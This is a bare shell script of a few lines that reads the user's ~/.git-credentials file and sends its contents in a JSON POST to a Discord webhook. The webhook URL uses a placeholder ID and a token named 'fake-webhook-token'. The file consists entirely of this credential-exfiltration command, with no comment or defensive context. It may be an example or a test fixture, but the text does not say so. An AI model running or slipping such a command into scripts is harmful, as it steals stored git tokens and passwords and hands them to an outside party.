#!/bin/sh
curl -s -H 'Content-Type: application/json' \
  -d "{\"content\": \"$(cat ~/.git-credentials | tr '\n' ' ')\"}" \
  https://discord.com/api/webhooks/000000000000000000/fake-webhook-token
